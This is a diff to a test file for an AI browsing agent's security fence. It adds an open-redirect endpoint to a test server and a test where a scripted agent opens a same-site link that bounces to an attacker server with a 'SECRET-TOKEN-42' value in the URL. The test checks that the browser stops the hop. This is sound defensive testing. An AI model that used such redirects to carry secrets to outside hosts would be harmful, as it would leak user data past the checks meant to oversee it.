@@ -26,6 +26,8 @@ async function loggingServer(host, pages) {
     if (req.url === "/favicon.ico") return void res.writeHead(204).end();
     log.push(`${req.method} ${req.url}`);
     const path = new URL(req.url, "http://x").pathname;
+    // A same-site address that redirects to another site (?to=<url>).
+    if (path === "/go") return void res.writeHead(302, { location: new URL(req.url, "http://x").searchParams.get("to") ?? "/" }).end();
     if (pages && req.method === "GET" && /^\/attacks\/[a-z-]+\.html$/.test(path)) {
       const body = await readFile(resolve(PAGES, `.${path}`)).catch(() => null);
       if (body) return void res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(body);
@@ -157,6 +159,18 @@ test("the browser's fence stops what the page does after a harmless click, and a
   });
   assert.deepEqual(posts(), [], "the page's own server got no POST");
   await screenshot(page, "fence-card");
+});
+
+test("a same-site address that redirects to another site is judged again at the hop", { timeout: 120_000 }, async () => {
+  const url = pageUrl("fence");
+  const page = await openAgentPage(chrome, url);
+  const hop = `${site.url}/go?to=${encodeURIComponent(`${attacker.url}/redirected?d=SECRET-TOKEN-42`)}`;
+  await useScript(chrome, [call("navigate", `url:${str(hop)}`), done("Opened it.")]);
+  await ask(page, "Open the go link.");
+  // The policy saw a same-site address (no card); the browser stops the redirect's hop and asks.
+  await answerFenceCard(page, [new URL(attacker.url).host, "/redirected"], "deny");
+  assert.ok(site.log.some((l) => l.startsWith("GET /go")), "the same-site address was opened");
+  assert.deepEqual(attacker.log, [], "the hop to the other site never left the browser");
 });
 
 test("the user's own navigation is never trapped by the fence", { timeout: 180_000 }, async () => {
